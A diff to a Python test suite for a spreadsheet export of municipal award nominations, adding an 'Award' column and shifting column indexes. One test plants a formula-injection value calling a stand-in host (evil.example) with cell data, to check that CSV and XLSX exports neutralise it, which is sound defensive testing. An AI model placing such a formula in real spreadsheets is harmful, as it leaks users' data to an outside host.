@@ -405,6 +405,7 @@ def xlsx_rows(response):
 
 
 EXPECTED_START = [
+    "Award",
     "Year",
     "Reference",
     "Status",
@@ -435,10 +436,11 @@ def test_the_export_has_a_row_per_nomination_with_the_answers(
     header, body = rows[0], rows[1:]
     assert header[: len(EXPECTED_START)] == EXPECTED_START
     assert header[-1] == "Attachments"
-    assert len(header) == 14 + 2 * len(DEFAULT_CRITERIA) + 1
+    assert len(header) == 15 + 2 * len(DEFAULT_CRITERIA) + 1
     assert len(body) == 4  # three submitted and one withdrawn; no draft
     values = [dict(zip(header, row, strict=True)) for row in body]
     first = next(v for v in values if v["Reference"] == f"AFK-{nominated_oslo.cycle.year}-0001")
+    assert first["Award"] == "Årets frivillighetskommune"
     assert first["Municipality number"] == "0301"  # text, leading zero kept
     assert first["Municipality"] == "Oslo"
     assert first["County"] == "Oslo"
@@ -462,7 +464,7 @@ def test_the_export_has_a_row_per_nomination_with_the_answers(
 
 def test_the_export_follows_the_list_filters(admin_client, nominated_oslo):
     rows = csv_rows(export(admin_client, "csv", status="withdrawn"))
-    assert len(rows) == 2 and rows[1][2] == "Withdrawn"
+    assert len(rows) == 2 and rows[1][3] == "Withdrawn"
 
 
 def test_no_nominators_text_becomes_a_spreadsheet_formula(admin_client, nominated_oslo):
@@ -470,16 +472,16 @@ def test_no_nominators_text_becomes_a_spreadsheet_formula(admin_client, nominate
         reason='=HYPERLINK("https://evil.example/?"&A1;"Click")'
     )
 
-    csv_reason = [r for r in csv_rows(export(admin_client, "csv")) if "HYPERLINK" in r[12]]
-    assert csv_reason[0][12].startswith("'=HYPERLINK")
-    assert csv_reason[0][8] == "'+47 900 00 000"  # a spreadsheet would calculate this too
+    csv_reason = [r for r in csv_rows(export(admin_client, "csv")) if "HYPERLINK" in r[13]]
+    assert csv_reason[0][13].startswith("'=HYPERLINK")
+    assert csv_reason[0][9] == "'+47 900 00 000"  # a spreadsheet would calculate this too
 
     response = export(admin_client, "xlsx")
     sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
-    cells = [row[12] for row in sheet.iter_rows(min_row=2) if "HYPERLINK" in str(row[12].value)]
+    cells = [row[13] for row in sheet.iter_rows(min_row=2) if "HYPERLINK" in str(row[13].value)]
     assert cells[0].data_type == "s"
     assert cells[0].value.startswith("=HYPERLINK")  # shown as written, never evaluated
-    assert xlsx_rows(response)[1][8] == "+47 900 00 000"
+    assert xlsx_rows(response)[1][9] == "+47 900 00 000"
 
 
 def test_an_export_of_several_cycles_heads_the_answers_by_position(
@@ -493,7 +495,7 @@ def test_an_export_of_several_cycles_heads_the_answers_by_position(
 
     assert "K1 Dialog med frivilligheten" in header
     assert "K5 Medvirkning i planarbeid – evidence" in header
-    assert len(header) == 14 + 2 * len(DEFAULT_CRITERIA) + 1
+    assert len(header) == 15 + 2 * len(DEFAULT_CRITERIA) + 1
 
 
 # --- Constant numbers of queries ------------------------------------------------------------------
